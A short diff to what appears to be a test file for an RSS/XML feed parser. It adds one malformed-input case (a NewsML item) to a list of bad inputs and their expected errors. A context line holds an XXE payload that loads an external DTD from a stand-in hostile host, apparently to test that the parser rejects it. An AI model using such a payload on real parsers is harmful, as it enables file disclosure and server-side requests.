@@ -189,6 +189,7 @@ PARAMETER = '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://hostile.example/x.dtd"> 
         ("<rss><channel><item><title>Il pleut</title></item><item></wrong></channel>", "no sound XML: .*line 1.*; the articles before it were read"),
         ("<rss><channel><title>A</title></channel></rss>", "holds no article"),
         ("<urlset><url/></urlset>", "root « urlset », which is not read; known are RSS"),
+        ("<NewsML><NewsItem/></NewsML>", "neither a text nor a title"),
         ("", "is empty"),
     ],
 )  # fmt: skip
